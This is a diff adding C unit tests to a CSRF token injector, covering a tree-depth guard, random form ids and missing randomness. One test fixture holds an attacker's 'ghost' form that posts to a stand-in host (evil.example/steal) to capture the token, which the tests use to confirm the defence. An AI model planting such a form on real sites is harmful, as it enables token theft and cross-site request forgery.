@@ -14,6 +14,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <strings.h>
+#include <sys/wait.h>
+#include <unistd.h>
 
 #include "csrf.h"
 #include "testutil.h"
@@ -917,6 +919,49 @@ static const row rows[] = {
      "<blockquote cite='<FORM method=post>'>" CL, 0},
 };
 
+/* ---- the injector's id of a form read deep in the tree ---- */
+
+/* What it adds: PIN_PRE, 16 base64url characters (96 random bits), '"';
+ * and the field PINNED_PRE, the same 16, PINNED_END. */
+#define PIN_PRE " id=\"csrf-"
+#define PIN_LEN (sizeof PIN_PRE - 1 + 16 + 1)
+#define PINNED_PRE "<input type=\"hidden\" name=\"" F "\" value=\"" T "\" form=\"csrf-"
+#define PINNED_END "\">"
+#define PINNED_LEN (sizeof PINNED_PRE - 1 + 16 + sizeof PINNED_END - 1)
+/* The 16 characters of an id as the tests write them: the bytes drawn
+ * differ for every form and every run. */
+#define PIN_MASK "################"
+#define PIN_ID " id=\"csrf-" PIN_MASK "\""
+#define PIN_IN "<input type=\"hidden\" name=\"" F "\" value=\"" T "\" form=\"csrf-" PIN_MASK "\">"
+
+static int b64url_16(const char *p)
+{
+	for (int k = 0; k < 16; k++) {
+		char c = p[k];
+		if (!((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-' ||
+		      c == '_'))
+			return 0;
+	}
+	return 1;
+}
+
+/* 1 for an injector's id, 2 for a field naming one (its 16 characters
+ * at *at), 0 for another piece. */
+static int pin_piece(const char *p, size_t n, size_t *at)
+{
+	size_t a = sizeof PIN_PRE - 1, b = sizeof PINNED_PRE - 1;
+	if (n == PIN_LEN && memcmp(p, PIN_PRE, a) == 0 && b64url_16(p + a) && p[a + 16] == '"') {
+		*at = a;
+		return 1;
+	}
+	if (n == PINNED_LEN && memcmp(p, PINNED_PRE, b) == 0 && b64url_16(p + b) &&
+	    memcmp(p + b + 16, PINNED_END, sizeof PINNED_END - 1) == 0) {
+		*at = b;
+		return 2;
+	}
+	return 0;
+}
+
 /* ---- running a document through an injector ---- */
 
 typedef struct {
@@ -935,6 +980,10 @@ typedef struct {
 	size_t calls;
 	size_t stop_at;  /* return 1 from this call (1-based); 0 never */
 	unsigned status; /* csrf_inject_status after run's finish */
+	/* the injector's ids, as drawn (in out they read PIN_MASK), and the
+	 * ids the fields named */
+	char ids[8][16], named[8][16];
+	size_t n_ids, n_named;
 } sink;
 
 static void append(char **buf, size_t *len, size_t *cap, const char *p, size_t n)
@@ -974,6 +1023,15 @@ static int sink_emit(void *ud, const char *p, size_t n, int inserted)
 		append(&s->plain, &s->plain_len, &s->plain_cap, p, n);
 	}
 	append(&s->out, &s->len, &s->cap, p, n);
+	size_t at;
+	int pin = inserted ? pin_piece(p, n, &at) : 0;
+	if (pin) {
+		char(*keep)[16] = pin == 1 ? s->ids : s->named;
+		size_t *kn = pin == 1 ? &s->n_ids : &s->n_named;
+		if (*kn < 8)
+			memcpy(keep[(*kn)++], p + at, 16);
+		memcpy(s->out + s->len - n + at, PIN_MASK, 16);
+	}
 	if (s->stop_at && s->calls == s->stop_at)
 		return 1;
 	return 0;
@@ -1201,7 +1259,9 @@ static void check_doc(const char *name, const char *in, size_t len, const char *
 			for (size_t j = 0; j < k; j++)
 				before += s.ins_n[j];
 			piece += before;
-			int is_in = s.ins_n[k] == strlen(IN) && memcmp(piece, IN, strlen(IN)) == 0;
+			int is_in = (s.ins_n[k] == strlen(IN) && memcmp(piece, IN, strlen(IN)) == 0) ||
+			            (s.ins_n[k] == strlen(PIN_ID) && memcmp(piece, PIN_ID, strlen(PIN_ID)) == 0) ||
+			            (s.ins_n[k] == strlen(PIN_IN) && memcmp(piece, PIN_IN, strlen(PIN_IN)) == 0);
 			if (is_in ? n_in++ < prev_in : n_other++ < prev_other)
 				continue;
 			int meta = (s.ins_n[k] == strlen(MT) && memcmp(piece, MT, strlen(MT)) == 0) ||
@@ -1813,13 +1873,13 @@ static void test_status(void **state)
 	assert_int_equal(csrf_inject_status(NULL), 0);
 	/* every bit has its own phrase */
 	size_t all = 0; /* an adapter's line with every phrase */
-	for (unsigned bit = 1; bit <= CSRF_INJECT_FRAMESET; bit <<= 1) {
+	for (unsigned bit = 1; bit <= CSRF_INJECT_DEEP; bit <<= 1) {
 		assert_string_not_equal(csrf_inject_status_str(bit), "unknown injector status");
 		all += strlen(csrf_inject_status_str(bit)) + 2;
 	}
 	assert_true(all < CSRF_INJECT_STATUS_TEXT_MAX);
 	assert_string_equal(csrf_inject_status_str(0), "unknown injector status");
-	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_FRAMESET << 1), "unknown injector status");
+	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_DEEP << 1), "unknown injector status");
 }
 
 /* A form longer than the hold gets no token, whatever the cuts; one that
@@ -2188,6 +2248,208 @@ static void test_deep_templates(void **state)
 	}
 }
 
+/* ---- the tree depth cap (docs/architecture.md) ---- */
+
+/* A form read where S + 2T + 3 (S start tags so far, its own too; T
+ * <table> start tags) reaches 480 may be put beside its parent by the
+ * browser, its field then owned by its nearest ancestor form. The
+ * attacker's ghost: a GET form to another origin whose </form> leaves it
+ * an ancestor. */
+#define GHOST "<form method=get action=//evil.example/steal><div></form>"
+#define SEND_ATTRS " method=post action=/send>"
+#define SEND_BODY "<input name=msg><button>Send</button></form>"
+
+/* pre, then piece k times, then post, into a malloc'd string. */
+static char *deep_doc(const char *pre, const char *piece, size_t k, const char *post)
+{
+	size_t n = strlen(pre) + k * strlen(piece) + strlen(post), at = 0;
+	char *d = malloc(n + 1);
+	assert_non_null(d);
+	put_times(d, &at, pre, 1);
+	put_times(d, &at, piece, k);
+	put_times(d, &at, post, 1);
+	d[at] = '\0';
+	return d;
+}
+
+/* in and want built alike, checked whole, byte by byte, at every split
+ * and prefix (check_doc), and its status whole and cut. */
+static void check_deep(const char *name, const char *pre, const char *piece, size_t k, const char *post,
+                       const char *want_pre, const char *want_post, unsigned count, unsigned status)
+{
+	char *in = deep_doc(pre, piece, k, post), *want = deep_doc(want_pre, piece, k, want_post);
+	check_doc(name, in, strlen(in), want, strlen(want), count);
+	size_t n = strlen(in), at[] = {strlen(pre) + 2, n - strlen(post) + 3, n - 5};
+	if (status_of(in, n, NULL, 0) != status || status_of(in, n, at, 3) != status)
+		fail_msg("%s: status %#x, want %#x", name, status_of(in, n, NULL, 0), status);
+	free(in);
+	free(want);
+}
+
+static void test_depth_guard(void **state)
+{
+	(void)state;
+	/* 475 <i> and the form: S + 3 = 479, today's output; 476: 480, the
+	 * injector's id after "<form" and form="" on the field */
+	check_deep("bound 479", "", "<i>", 475, PF "x" CL, "", PF IN "x" CL, 1, 0);
+	check_deep("bound 480", "", "<i>", 476, PF "x" CL, "", "<form" PIN_ID " method=post>" PIN_IN "x" CL, 2, 0);
+	/* the attack page: the token no longer goes to evil.example */
+	check_deep("ghost and 510 <i>", GHOST, "<i>", 510, "<form" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form" PIN_ID SEND_ATTRS PIN_IN SEND_BODY, 2, 0);
+	/* an id of its own cannot be pinned: after a ghost, reported */
+	check_deep("own id, ghost, deep", GHOST, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	check_deep("own id, deep, no ghost", "", "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, "",
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
+	check_deep("own id, ghost, not deep", GHOST, "<i>", 100, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
+	check_deep("empty id, ghost, deep", GHOST, "<i>", 510, "<form id" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	/* a token form's </form> leaves no ghost */
+	check_deep("own id after a token form", PF CL, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, PF IN CL,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 2, 0);
+	/* T: a table adds up to two implied elements; 159 tables (start
+	 * tags) and the form reach 3 * 159 + 4 = 481, 158 only 478 */
+	check_deep("158 tables", "", "<table></table>", 158, PF CL, "", PF IN CL, 1, 0);
+	check_deep("159 tables", "", "<table></table>", 159, PF CL, "", "<form" PIN_ID " method=post>" PIN_IN CL, 2, 0);
+	check_deep("159 <i>", "", "<i>", 159, PF CL, "", PF IN CL, 1, 0);
+	/* what follows the name: the id goes in well-formed */
+	check_deep("slash after the name", "", "<i>", 476, "<form/method=post>" CL, "",
+	           "<form" PIN_ID "/method=post>" PIN_IN CL, 2, 0);
+	check_deep("self-closing", "", "<i>", 476, "<FORM\nMETHOD=\"POST\"/>" CL, "",
+	           "<FORM" PIN_ID "\nMETHOD=\"POST\"/>" PIN_IN CL, 2, 0);
+	check_deep("no attributes: GET", "", "<i>", 476, "<form>" CL, "", "<form>" CL, 0, 0);
+	check_deep("GET after the name", "", "<i>", 476, "<form method=get>" CL, "", "<form method=get>" CL, 0, 0);
+	check_deep("GET button", "", "<i>", 476, PF "<button formmethod=get>" CL, "", PF "<button formmethod=get>" CL,
+	           0, CSRF_INJECT_GET_BUTTON);
+	/* start tags in noscript count: a browser without scripting (DOMParser) builds them */
+	check_deep("noscript content", "<noscript>", "<i>", 475, "</noscript>" PF CL, "<noscript>",
+	           "</noscript><form" PIN_ID " method=post>" PIN_IN CL, 2, 0);
+	/* a nested form is dropped (the pointer is set): nothing held, no id */
+	check_deep("nested", PF, "<i>", 476, PF CL, PF IN, PF CL, 1, CSRF_INJECT_NESTED_FORM);
+
+	/* the ids: random for every form and every run, the field names its own */
+	char *in = deep_doc("", "<i>", 476, PF CL "<form action=/b method=post>" CL);
+	sink a, b;
+	unsigned count;
+	run(in, strlen(in), NULL, 0, &a, &count);
+	assert_int_equal(count, 4);
+	run(in, strlen(in), NULL, 0, &b, &count);
+	assert_int_equal(a.n_ids, 2);
+	assert_int_equal(a.n_named, 2);
+	assert_memory_equal(a.ids[0], a.named[0], 16);
+	assert_memory_equal(a.ids[1], a.named[1], 16);
+	assert_memory_not_equal(a.ids[0], a.ids[1], 16);
+	assert_memory_not_equal(a.ids[0], b.ids[0], 16);
+	assert_memory_not_equal(a.ids[1], b.ids[1], 16);
+	sink_free(&a);
+	sink_free(&b);
+	free(in);
+
+	/* a deep form whose start tag overflows the hold (its bytes from the
+	 * name on): no token, however the stream is cut */
+	size_t big = CSRF_INJECT_HOLD_MAX + 10;
+	char *attr = malloc(big + 1);
+	assert_non_null(attr);
+	memset(attr, 'a', big);
+	attr[big] = '\0';
+	char *pre = deep_doc("", "<i>", 476, "<form method=post data-x=\"");
+	char *doc = deep_doc(pre, attr, 1, "\">x" CL);
+	size_t n = strlen(doc), at1 = strlen(pre) - 10, at2 = n - 10;
+	assert_int_equal(status_of(doc, n, NULL, 0), CSRF_INJECT_LONG_FORM);
+	assert_int_equal(status_of(doc, n, &at1, 1), CSRF_INJECT_LONG_FORM);
+	size_t cuts[] = {at1, at1 + 4096, at1 + 8192, at2};
+	assert_int_equal(status_of(doc, n, cuts, 4), CSRF_INJECT_LONG_FORM);
+	sink o;
+	run(doc, n, cuts, 4, &o, &count);
+	assert_int_equal(count, 0);
+	expect_output("deep long start tag", "cuts", 0, &o, doc, n, doc, n);
+	sink_free(&o);
+	free(doc);
+	/* one that fits gets its id */
+	attr[CSRF_INJECT_HOLD_MAX - 40] = '\0';
+	doc = deep_doc(pre, attr, 1, "\">x" CL);
+	n = strlen(doc);
+	run(doc, n, cuts, 2, &o, &count);
+	assert_int_equal(count, 2);
+	assert_int_equal(o.status, 0);
+	sink_free(&o);
+	free(doc);
+	/* an ESC byte inside a deep form's start tag: the rest as it is */
+	doc = deep_doc("", "<i>", 476, "<form method=post \x1b>x" CL);
+	n = strlen(doc);
+	run(doc, n, NULL, 0, &o, &count);
+	assert_int_equal(count, 0);
+	expect_output("deep ESC", "whole", 0, &o, doc, n, doc, n);
+	sink_free(&o);
+	free(doc);
+	free(pre);
+	free(attr);
+}
+
+/* No randomness, no pinned token: with getrandom failing (a seccomp
+ * filter in a child, which drops the pad block it inherited), a deep
+ * form without an id goes without the token, its bytes as they are, and
+ * CSRF_INJECT_DEEP says so; a form below the guard needs no id and gets
+ * its token. */
+static int plain_run(const char *in, char *out, size_t cap, size_t *n, unsigned *count, unsigned *status)
+{
+	static char mem[CSRF_INJECT_STATE_MAX];
+	csrf_inject *inj;
+	sink s;
+	if (csrf_inject_init(mem, sizeof mem, SELF, strlen(SELF), F, strlen(F), T, strlen(T), &inj) != CSRF_OK)
+		return 1;
+	sink_init(&s, mem);
+	s.chunk = in;
+	s.chunk_len = strlen(in);
+	if (csrf_inject_feed(inj, in, strlen(in), sink_emit, &s) != CSRF_OK ||
+	    csrf_inject_finish(inj, sink_emit, &s, count) != CSRF_OK || s.len > cap)
+		return 1;
+	*status = csrf_inject_status(inj);
+	memcpy(out, s.out, s.len);
+	*n = s.len;
+	sink_free(&s);
+	return 0;
+}
+
+/* The forked child's end: what it inherited freed first, so that
+ * valgrind (which follows the fork) reports no leak and keeps the code. */
+static _Noreturn void child_end(char *doc, int code)
+{
+	free(doc);
+	_exit(code);
+}
+
+static void test_deep_without_random(void **state)
+{
+	(void)state;
+	char *deep = deep_doc("", "<i>", 476, PF "x" CL);
+	pid_t pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		static char out[4096];
+		size_t n;
+		unsigned count, status;
+		uint8_t probe[8];
+		if (tu_no_getrandom() != 0 || csrf_random(probe, sizeof probe) != CSRF_ERR_RANDOM)
+			child_end(deep, 9);
+		if (plain_run(deep, out, sizeof out, &n, &count, &status) != 0)
+			child_end(deep, 2);
+		if (count != 0 || status != CSRF_INJECT_DEEP || n != strlen(deep) || memcmp(out, deep, n) != 0)
+			child_end(deep, 3);
+		if (plain_run(PF "x" CL, out, sizeof out, &n, &count, &status) != 0 || count != 1 || status != 0)
+			child_end(deep, 4);
+		child_end(deep, 0);
+	}
+	int st;
+	assert_int_equal(waitpid(pid, &st, 0), pid);
+	free(deep);
+	assert_true(WIFEXITED(st));
+	if (WEXITSTATUS(st) == 9)
+		skip(); /* no working seccomp filter here */
+	assert_int_equal(WEXITSTATUS(st), 0);
+}
+
 /* A stopped stream passes the rest through untouched: no meta, no field. */
 static void test_stopped_passes(void **state)
 {
@@ -2384,7 +2646,9 @@ static void test_random_docs(void **state)
 		for (size_t k = 0; k < whole.n_ins; k++) {
 			/* the injector is gone: look at the inserted bytes in the output */
 			const char *p = whole.out + whole.ins_at[k] + off;
-			int is_in = whole.ins_n[k] == strlen(IN) && memcmp(p, IN, strlen(IN)) == 0;
+			int is_in = (whole.ins_n[k] == strlen(IN) && memcmp(p, IN, strlen(IN)) == 0) ||
+			            (whole.ins_n[k] == strlen(PIN_ID) && memcmp(p, PIN_ID, strlen(PIN_ID)) == 0) ||
+			            (whole.ins_n[k] == strlen(PIN_IN) && memcmp(p, PIN_IN, strlen(PIN_IN)) == 0);
 			int is_mt = whole.ins_n[k] == strlen(MT) && memcmp(p, MT, strlen(MT)) == 0;
 			if (!is_in && !is_mt)
 				fail_msg("random %d: inserted piece %zu is neither element", iter, k);
@@ -2421,6 +2685,7 @@ typedef struct {
 	size_t chunk_len;
 	const char *mem;
 	int bad;
+	size_t ids; /* the injector's ids: every POST form deep in the page */
 } big_sink;
 
 static int big_emit(void *ud, const char *p, size_t n, int inserted)
@@ -2428,8 +2693,14 @@ static int big_emit(void *ud, const char *p, size_t n, int inserted)
 	big_sink *b = ud;
 	b->out_len += n;
 	if (inserted) {
-		if (n != strlen(IN) || memcmp(p, IN, n) != 0)
-			b->bad = 1;
+		size_t at;
+		int pin = pin_piece(p, n, &at);
+		if ((n != strlen(IN) || memcmp(p, IN, n) != 0) && pin != 2) {
+			if (pin != 1)
+				b->bad = 1;
+			b->ids++;
+			return 0;
+		}
 		b->inserted++;
 		return 0;
 	}
@@ -2462,7 +2733,7 @@ static void test_ten_megabytes(void **state)
 	assert_true(csrf_inject_size() <= STATE_BOUND);
 	char *mem;
 	csrf_inject *inj = new_injector(&mem);
-	big_sink b = {doc, len, 0, 0, 0, NULL, 0, mem, 0};
+	big_sink b = {doc, len, 0, 0, 0, NULL, 0, mem, 0, 0};
 	char *chunk;
 	for (size_t off = 0; off < len; off += 4096) {
 		size_t n = len - off < 4096 ? len - off : 4096;
@@ -2479,9 +2750,12 @@ static void test_ten_megabytes(void **state)
 	b.chunk_len = 0;
 	assert_int_equal(csrf_inject_finish(inj, big_emit, &b, &count), CSRF_OK);
 	assert_int_equal(b.pos, len);
-	assert_int_equal(count, nblocks);
+	/* past the depth bound's guard (the first blocks: 9 start tags each)
+	 * the form gets the injector's id and its field names it */
+	assert_true(b.ids > nblocks - 60 && b.ids < nblocks);
+	assert_int_equal(count, nblocks + b.ids);
 	assert_int_equal(b.inserted, nblocks);
-	assert_int_equal(b.out_len, len + nblocks * strlen(IN));
+	assert_int_equal(b.out_len, len + nblocks * strlen(IN) + b.ids * (PIN_LEN + PINNED_LEN - strlen(IN)));
 	tu_guard_free(mem);
 	free(doc);
 }
@@ -2504,6 +2778,8 @@ int main(void)
 	    cmocka_unit_test(test_long_form_quiet),
 	    cmocka_unit_test(test_deep_tables),
 	    cmocka_unit_test(test_deep_templates),
+	    cmocka_unit_test(test_depth_guard),
+	    cmocka_unit_test(test_deep_without_random),
 	    cmocka_unit_test(test_attr_masks),
 	    cmocka_unit_test(test_long_form),
 	    cmocka_unit_test(test_stopped_passes),
